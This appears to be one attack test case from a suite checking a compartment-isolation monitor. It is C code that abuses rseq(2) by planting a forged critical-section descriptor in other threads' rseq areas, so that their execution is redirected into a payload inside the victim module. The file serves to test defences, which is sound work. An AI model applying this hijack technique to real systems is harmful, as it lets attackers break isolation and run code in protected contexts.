/* class: signals
 * source: rseq(2)
 * tries: the same in a thread that never runs anything but the victim's code
 * must: have no rseq registered while compartments run
 * expect: succeeds until the monitor */
#include "attack.h"

ATTACK
{
    long *offset = exported("__rseq_offset");
    word *section = (word *)shared_at(0x1000);
    section[1] = module_of(victim_key)->text.start;
    section[2] = module_of(victim_key)->text.end - module_of(victim_key)->text.start;
    section[3] = (word)payload;
    if (!offset)
        return;
    victim_call(SPINNING_THREAD, 0, 0);
    for (int k = 0; k < 3000; k++) {
        for (int i = 2; i < 64; i++)
            if (state()->thread[i].fsbase)
                *(volatile word *)(state()->thread[i].fsbase + *offset + 8) = (word)section;
        usleep(1000);
    }
}
